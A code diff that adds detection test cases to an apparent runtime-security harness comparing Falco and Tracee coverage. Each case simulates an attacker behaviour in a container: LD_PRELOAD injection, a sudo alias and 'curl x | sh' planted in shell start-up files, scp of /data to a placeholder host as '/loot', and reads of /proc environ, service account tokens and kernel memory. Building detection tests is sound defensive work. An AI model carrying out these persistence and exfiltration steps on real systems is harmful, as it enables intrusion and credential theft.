@@ -774,6 +774,237 @@ def _(c, b):
     c.py(b, CONNECT.format(fam="AF_INET", ip="169.254.169.254", port=80), env={"PYTHONPATH": LIVE})
 
 
+# --- issue 12: more incubating/Tracee behaviours (LD_PRELOAD through proc.env, shell start-up
+# files, /dev, /proc/PID/environ, remote copy, system libraries, liblzma, SysRq) and variants ---
+LD_PRELOAD_RULE = "Library injected through LD_PRELOAD or LD_AUDIT"
+SHELL_CONFIG = "Shell configuration file modified"
+DEV_CREATE = "File created below /dev"
+ENVIRON_READ = "Process environment read through /proc in container"
+REMOTE_COPY = "Remote file copy tool run in container"
+LIB_WRITE = "System library or PAM module written"
+SYSRQ = "Magic SysRq triggered or enabled"
+
+
+@behaviour("ld-preload", "a program started with LD_PRELOAD naming a library in a scratch directory", None, LD_PRELOAD_RULE,
+           note="no Falco rule (needs proc.env); Tracee: LD_PRELOAD code injection")
+def _(c, b):
+    lib = os.path.join(c.dir(b), "libhook.so")
+    c.runner(b)(["/usr/bin/id", b.token], env={"PATH": "/usr/bin:/bin", "LD_PRELOAD": lib})
+
+
+@behaviour("ld-audit-execveat-pod", "LD_AUDIT passed in the environment of an execveat in a pod", None, LD_PRELOAD_RULE, POD,
+           note="no Falco rule; Tracee: LD_PRELOAD/LD_AUDIT code injection")
+def _(c, b):
+    lib = os.path.join(c.dir(b), "audit.so").encode()
+    c.py(b, "import livelib as L, ctypes, os\npid = os.fork()\nif pid == 0:\n"
+            f"    argv = (ctypes.c_char_p * 3)(b'true', b'{b.token}', None)\n"
+            f"    envp = (ctypes.c_char_p * 3)(b'PATH=/usr/bin', b'LD_AUDIT={lib.decode()}', None)\n"
+            "    L.syscall('execveat', L.AT_FDCWD, '/bin/true', argv, envp, 0)\n    os._exit(1)\nos.waitpid(pid, 0)",
+         env={"PYTHONPATH": LIVE})
+
+
+@behaviour("ld-preload-sudo-pod", "sudo-style: LD_PRELOAD set for one command by a shell in a pod", None, LD_PRELOAD_RULE, POD,
+           note="no Falco rule; the shell itself does not carry the variable, its child does")
+def _(c, b):
+    lib = os.path.join(c.dir(b), "libpam_hook.so")
+    c.runner(b)(["sh", "-c", f"LD_PRELOAD={lib} /bin/true {b.token}"])
+
+
+@behaviour("bashrc-append", "a line appended to a user's .bashrc by a script", "Modify Shell Configuration File" + INC, SHELL_CONFIG)
+def _(c, b):
+    h = home_dir(c, b)
+    try:
+        c.py(b, f"open('{h}/.bashrc', 'a').write('alias sudo=\"/tmp/.s\"\\n')")
+    finally:
+        shutil.rmtree(h, ignore_errors=True)
+
+
+@behaviour("profile-d-rename-pod", "a script renamed into /etc/profile.d with renameat2 (as sed -i does) in a pod",
+           "Modify Shell Configuration File" + INC, SHELL_CONFIG, POD,
+           note="Falco's rule watches opens for writing only: the rename is missed")
+def _(c, b):
+    src = os.path.join(c.dir(b), "proxy.sh")
+    dst = f"/etc/profile.d/vigil-{os.path.basename(c.scratch)}.sh"
+    with open(src, "w") as f:
+        f.write("export X=1\n")
+    try:
+        c.py(b, f"import livelib as L\nr = L.syscall('renameat2', L.AT_FDCWD, '{src}', L.AT_FDCWD, '{dst}', 0)\nassert r == 0, r",
+             env={"PYTHONPATH": LIVE})
+    finally:
+        if os.path.exists(dst):
+            os.unlink(dst)
+
+
+@behaviour("zshrc-linkat", "a .zshrc hard-linked into a home directory (linkat)", "Modify Shell Configuration File" + INC, SHELL_CONFIG,
+           note="Falco's rule watches opens for writing only: the link is missed")
+def _(c, b):
+    h = home_dir(c, b)
+    src = os.path.join(h, "payload")
+    with open(src, "w") as f:
+        f.write("curl x | sh\n")
+    try:
+        c.py(b, f"import livelib as L\nr = L.syscall('linkat', L.AT_FDCWD, '{src}', L.AT_FDCWD, '{h}/.zshrc', 0)\nassert r == 0, r",
+             env={"PYTHONPATH": LIVE})
+    finally:
+        shutil.rmtree(h, ignore_errors=True)
+
+
+@behaviour("dev-file-create", "a hidden file created directly in /dev", "Create files below dev" + INC, DEV_CREATE)
+def _(c, b):
+    p = f"/dev/.vigil-{os.path.basename(c.scratch)}"
+    try:
+        c.py(b, f"open('{p}', 'w').write('x')")
+    finally:
+        if os.path.exists(p):
+            os.unlink(p)
+
+
+@behaviour("dev-hidden-dir-openat2-pod", "a file created with openat2 in a hidden directory below /dev, in a privileged pod",
+           "Create files below dev" + INC, DEV_CREATE, PRIV, note="Falco's rule looks at /dev itself only: missed")
+def _(c, b):
+    d = f"/dev/.vigil-{os.path.basename(c.scratch)}-d"
+    os.makedirs(d, exist_ok=True)
+    try:
+        c.py(b, f"import livelib as L, os\nfd = L.openat2('{d}/conf', os.O_WRONLY | os.O_CREAT)\nassert fd >= 0, fd\nos.close(fd)",
+             env={"PYTHONPATH": LIVE})
+    finally:
+        shutil.rmtree(d, ignore_errors=True)
+
+
+@behaviour("environ-read-pod", "another process's /proc/PID/environ read by a script in a pod",
+           "Read environment variable from /proc files" + INC, ENVIRON_READ, POD)
+def _(c, b):
+    c.py(b, "import subprocess\nchild = subprocess.Popen(['sleep', '30'])\nopen('/proc/%d/environ' % child.pid, 'rb').read()\n"
+            "child.kill(); child.wait()")
+
+
+@behaviour("environ-read-cat-pod", "a shell starts a process and cats its /proc/PID/environ in a pod",
+           "Read environment variable from /proc files" + INC, ENVIRON_READ, POD)
+def _(c, b):
+    c.runner(b)(["sh", "-c", f"sleep 30 & cat /proc/$!/environ /dev/null/{b.token}; kill $!"])
+
+
+@behaviour("scp-pod", "scp started in a pod", "Launch Remote File Copy Tools in Container" + INC, REMOTE_COPY, POD)
+def _(c, b):
+    c.runner(b)([c.tool(b, "scp"), "-r", "/data", f"{b.token}@203.0.113.9:/loot"])
+
+
+@behaviour("rsync-pod", "rsync started in a pod (another tool, another argument order)", "Launch Remote File Copy Tools in Container" + INC,
+           REMOTE_COPY, POD)
+def _(c, b):
+    c.runner(b)([c.tool(b, "rsync"), f"rsync://203.0.113.9/{b.token}", "-az", "/tmp/"])
+
+
+def _libdir():
+    for d in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib64", "/usr/lib"):
+        if os.path.isdir(d):
+            return d
+    return "/usr/lib"
+
+
+@behaviour("libkeyutils-write", "a new libkeyutils.so.1.* written in the system library directory (Ebury-style)", None, LIB_WRITE,
+           note="no Falco rule (Falco's CVE-2024-3094 rule watches sshd loading liblzma)")
+def _(c, b):
+    p = os.path.join(_libdir(), f"libkeyutils.so.1.vigil-{os.path.basename(c.scratch)}")
+    try:
+        c.py(b, f"open('{p}', 'wb').write(b'\\x7fELF')")
+    finally:
+        if os.path.exists(p):
+            os.unlink(p)
+
+
+@behaviour("pam-module-rename-pod", "a PAM module renamed into the security directory (renameat2) in a pod", None, LIB_WRITE, POD,
+           note="no Falco rule")
+def _(c, b):
+    sec = os.path.join(_libdir(), "security")
+    created = not os.path.isdir(sec)
+    os.makedirs(sec, exist_ok=True)
+    src = os.path.join(c.dir(b), "pam_unix.so")
+    dst = os.path.join(sec, f"pam_vigil{os.path.basename(c.scratch)}.so")
+    with open(src, "wb") as f:
+        f.write(b"\x7fELF")
+    try:
+        c.py(b, f"import livelib as L\nr = L.syscall('renameat2', L.AT_FDCWD, '{src}', L.AT_FDCWD, '{dst}', 0)\nassert r == 0, r",
+             env={"PYTHONPATH": LIVE})
+    finally:
+        if os.path.exists(dst):
+            os.unlink(dst)
+        if created:
+            shutil.rmtree(sec, ignore_errors=True)
+
+
+@behaviour("sshd-liblzma", "a program named sshd opens liblzma.so.5.6.1", "Backdoored library loaded into SSHD (CVE-2024-3094)" + INC,
+           "Backdoored xz library loaded")
+def _(c, b):
+    lib = os.path.join(c.dir(b), "liblzma.so.5.6.1")
+    with open(lib, "wb") as f:
+        f.write(b"\x7fELF")
+    c.py(b, f"open('{lib}', 'rb').read()", name="sshd")
+
+
+# Kernels without CONFIG_MAGIC_SYSRQ (this test machine's) have neither file: the SysRq behaviours
+# run where the kernel has them (the rule is rule-tested everywhere, rules/tests/incubating.yaml).
+if os.path.exists("/proc/sysrq-trigger"):
+    @behaviour("sysrq-trigger-pod", "/proc/sysrq-trigger opened for writing (nothing written) in a privileged pod", None, SYSRQ, PRIV,
+               note="no Falco rule; a write would crash or reboot the node")
+    def _(c, b):
+        c.py(b, "import os\nos.close(os.open('/proc/sysrq-trigger', os.O_WRONLY))")
+
+if os.path.exists("/proc/sys/kernel/sysrq"):
+    @behaviour("sysrq-enable", "/proc/sys/kernel/sysrq written (its value written back)", None, SYSRQ, note="no Falco rule")
+    def _(c, b):
+        c.py(b, "p = '/proc/sys/kernel/sysrq'\nv = open(p).read()\nf = open(p, 'w')\nf.write(v)\nf.close()")
+
+
+@behaviour("core-pattern-openat2-pod", "core_pattern opened for writing with openat2 in a privileged pod (nothing written)", None,
+           "Kernel usermode helper changed", PRIV, note="no Falco rule; Tracee: core_pattern modification")
+def _(c, b):
+    c.py(b, "import livelib as L, os\nfd = L.openat2('/proc/sys/kernel/core_pattern', os.O_WRONLY)\nassert fd >= 0, fd\nos.close(fd)",
+         env={"PYTHONPATH": LIVE})
+
+
+@behaviour("kcore-openat2-pod", "/proc/kcore opened with openat2 in a privileged pod", None, "Kernel memory read", PRIV,
+           note="no Falco rule; Tracee: kernel memory read (/proc/kcore)")
+def _(c, b):
+    c.py(b, "import livelib as L, os\nfd = L.openat2('/proc/kcore')\nassert fd >= 0, fd\nos.close(fd)", env={"PYTHONPATH": LIVE})
+
+
+@behaviour("proc-mem-write-thread-pod", "/proc/PID/task/TID/mem of another process opened for writing in a pod", None,
+           "Process memory written through /proc", POD, note="no Falco rule; Tracee: code injection through /proc/PID/mem")
+def _(c, b):
+    c.py(b, "import subprocess, os\nchild = subprocess.Popen(['sleep', '30'])\n"
+            "fd = os.open('/proc/%d/task/%d/mem' % (child.pid, child.pid), os.O_WRONLY)\nos.close(fd)\nchild.kill(); child.wait()")
+
+
+@behaviour("sa-token-openat2-pod", "the service account token read by a script with openat2 in a pod", None,
+           "Service account token read in container", POD, note="no Falco rule; Tracee: service account token read")
+def _(c, b):
+    d = "/var/run/secrets/kubernetes.io/serviceaccount"
+    created = not os.path.exists("/var/run/secrets")
+    os.makedirs(d, exist_ok=True)
+    if not os.path.exists(d + "/token"):
+        with open(d + "/token", "w") as f:
+            f.write("eyJhbGciOiJSUzI1NiJ9.e30.sig")
+    try:
+        c.py(b, f"import livelib as L, os\nfd = L.openat2('{d}/token')\nassert fd >= 0, fd\nos.close(fd)", env={"PYTHONPATH": LIVE})
+    finally:
+        if created:
+            shutil.rmtree("/var/run/secrets", ignore_errors=True)
+
+
+@behaviour("containerd-socket-pod", "a pod connects to a containerd.sock", None, "Container runtime socket accessed from container", POD,
+           note="no Falco rule; Tracee: container runtime socket access")
+def _(c, b):
+    sock = os.path.join(c.dir(b), "containerd.sock")
+    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    srv.bind(sock)
+    srv.listen(1)
+    try:
+        c.py(b, f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{sock}')\ns.close()")
+    finally:
+        srv.close()
+
+
 # ---------------------------------------------------------------------------
 # Running it
 # ---------------------------------------------------------------------------
